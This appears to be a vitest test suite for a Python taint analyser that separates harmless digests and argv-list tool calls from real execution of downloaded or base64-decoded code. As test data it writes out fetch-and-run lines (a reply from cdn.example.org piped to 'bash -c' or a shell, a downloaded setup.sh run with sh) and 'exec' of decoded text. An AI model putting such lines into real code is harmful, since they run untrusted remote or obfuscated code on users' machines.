import { describe, expect, it } from 'vitest';
import { py } from './support.js';

/**
 * A digest is not its input's text, and a program that never runs its operands is given data: neither is a
 * decoded or downloaded payload run. The same value handed to a shell, an interpreter or `exec` still is.
 */
describe('python: digests and data-only programs carry no payload', () => {
  it('an HMAC keyed with a base64-decoded secret signs a request made with curl: nothing decoded runs', async () => {
    const { of } = await py(
      [
        'import base64, hashlib, hmac, subprocess',
        'def call(secret, url, stamp):',
        '    mac = hmac.new(base64.b64decode(secret), stamp.encode(), hashlib.sha1)',
        '    sig = base64.b64encode(mac.digest()).decode()',
        '    subprocess.run(["curl", "-s", "-H", f"Authorization: Sig {sig}", url], capture_output=True)',
        '',
      ].join('\n'),
    );
    const runs = of('execute');
    expect(runs.length).toBeGreaterThan(0);
    for (const b of runs) expect(b.code.taints).not.toContain('decoded');
  });

  it('a digest of a downloaded body put on a command line: not downloaded code', async () => {
    const { of } = await py(
      [
        'import hashlib, requests, subprocess',
        'body = requests.get("https://files.example.org/x.tar.gz").content',
        'digest = hashlib.sha256(body).hexdigest()',
        'subprocess.run(["logger", "fetched", digest])',
        '',
      ].join('\n'),
    );
    for (const b of of('execute')) expect(b.code.taints).not.toContain('download');
  });

  it('names from an API reply looked up with dig (an argv list, no shell): not downloaded code', async () => {
    const { of } = await py(
      [
        'import requests, subprocess',
        'names = requests.get("https://api.example.org/v1/subdomains").json()["subdomains"]',
        'for n in names:',
        '    subprocess.run(["dig", "+short", "CNAME", n], capture_output=True, text=True)',
        '    subprocess.run(["/usr/bin/whois", n], capture_output=True)',
        '',
      ].join('\n'),
    );
    const runs = of('execute');
    expect(runs.length).toBe(2);
    for (const b of runs) expect(b.code.taints).not.toContain('download');
  });

  it.each([
    ['bash -c of a reply', 'subprocess.run(["bash", "-c", r.text])'],
    ['python3 -c of a reply', 'subprocess.run(["python3", "-c", r.text])'],
    ['a reply run through the shell', 'subprocess.run(r.text, shell=True)'],
    ['a program that may run its words', 'subprocess.run(["awk", r.text, "log.txt"])'],
    ['a reply as the program', 'subprocess.run([r.text, "--version"])'],
  ])('still downloaded code: %s', async (_name, line) => {
    const { of } = await py(
      `import requests, subprocess\nr = requests.get("https://cdn.example.org/step")\n${line}\n`,
    );
    expect(of('execute').some((b) => b.code.taints.includes('download'))).toBe(true);
  });

  it('a downloaded script given to sh by path is still downloaded code', async () => {
    const { of } = await py(
      [
        'import subprocess, urllib.request',
        'urllib.request.urlretrieve("https://cdn.example.org/setup.sh", "/tmp/setup.sh")',
        'subprocess.run(["sh", "/tmp/setup.sh"])',
        '',
      ].join('\n'),
    );
    expect(of('execute').some((b) => b.code.taints.includes('download'))).toBe(true);
  });

  it.each([
    ['exec of decoded text', 'exec(base64.b64decode(blob))'],
    ['bash -c of decoded text', 'subprocess.run(["bash", "-c", base64.b64decode(blob).decode()])'],
    [
      'decoded text beside a digest of it',
      'hashlib.sha256(base64.b64decode(blob)).hexdigest()\nexec(base64.b64decode(blob).decode())',
    ],
  ])('still decoded code: %s', async (_name, line) => {
    const { of } = await py(`import base64, hashlib, subprocess, sys\nblob = sys.argv[1]\n${line}\n`);
    expect(of('execute').some((b) => b.code.taints.includes('decoded'))).toBe(true);
  });
});
